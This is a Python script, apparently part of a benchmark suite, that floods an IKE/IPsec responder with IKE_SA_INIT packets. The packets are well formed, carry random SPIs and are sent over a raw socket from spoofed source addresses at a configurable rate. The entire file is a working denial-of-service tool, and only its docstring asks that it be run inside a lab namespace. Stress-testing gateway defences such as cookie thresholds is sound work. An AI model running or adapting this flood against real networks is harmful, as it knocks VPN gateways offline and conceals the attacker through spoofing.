#!/usr/bin/env python3
"""Spoofed IKE_SA_INIT flood for bench/ike_wire/segw_flood.sh (a lab tool: run it only inside a
network namespace of that script).  Raw IPv4 socket (IP_HDRINCL): every packet comes from a
different source address of the given prefixes and a random SPIi, with a well-formed
IKE_SA_INIT (SA aes128gcm16-prfsha256-ecp256, KE group 19 carrying the P-256 generator point,
Nonce), so a responder below its cookie threshold would start a real exchange.

usage: ike_flood.py DST_ADDR DST_PORT SECONDS RATE PREFIX... (RATE 0 = as fast as possible)
prints one JSON line: {"sent": N, "seconds": S, "pps": R}
"""
import json
import os
import socket
import struct
import sys
import time

P256_G = bytes.fromhex(
    "6B17D1F2E12C4247F8BCE6E563A440F277037D812DEB33A0F4A13945D898C296"
    "4FE342E2FE1A7F9B8EE7EB4A7C0F9E162BCE33576B315ECECBB6406837BF51F5")


def transform(last, ttype, tid, attrs=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs


def ike_sa_init(spi_i, nonce):
    tr = (transform(False, 1, 20, struct.pack("!HH", 0x800E, 128))  # ENCR AES-GCM-16, 128
          + transform(False, 2, 5)                                   # PRF HMAC-SHA2-256
          + transform(True, 4, 19))                                  # DH group 19
    prop = struct.pack("!BBHBBBB", 0, 0, 8 + len(tr), 1, 1, 0, 3) + tr
    sa = struct.pack("!BBH", 34, 0, 4 + len(prop)) + prop            # next: KE
    ke = struct.pack("!BBHHH", 40, 0, 8 + len(P256_G), 19, 0) + P256_G  # next: Nonce
    no = struct.pack("!BBH", 0, 0, 4 + len(nonce)) + nonce
    body = sa + ke + no
    hdr = spi_i + bytes(8) + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(body))
    return hdr + body


def main():
    if len(sys.argv) < 6:
        print(__doc__, file=sys.stderr)
        return 2
    dst, dport, seconds, rate = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
    sources = []
    for p in sys.argv[5:]:
        net, bits = p.split("/")
        base = struct.unpack("!I", socket.inet_aton(net))[0]
        for h in range(1, (1 << (32 - int(bits))) - 1):
            sources.append(socket.inet_aton(socket.inet_ntoa(struct.pack("!I", base + h))))
    daddr = socket.inet_aton(dst)
    pkts = []
    for i in range(4096):  # a pool of distinct packets, sent round-robin
        ike = ike_sa_init(os.urandom(8), os.urandom(32))
        udp = struct.pack("!HHHH", 10000 + i % 50000, dport, 8 + len(ike), 0) + ike
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                         sources[i % len(sources)], daddr) + udp
        pkts.append(ip)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    target = (dst, 0)
    sent = 0
    t0 = time.monotonic()
    end = t0 + seconds
    n = len(pkts)
    while True:
        now = time.monotonic()
        if now >= end:
            break
        burst = 64
        if rate > 0:
            due = int((now - t0) * rate) - sent
            if due <= 0:
                time.sleep(0.001)
                continue
            burst = min(burst, due)
        for _ in range(burst):
            try:
                s.sendto(pkts[sent % n], target)
            except (BlockingIOError, OSError):
                pass
            sent += 1
    el = time.monotonic() - t0
    print(json.dumps({"sent": sent, "seconds": round(el, 3), "pps": round(sent / el, 1)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
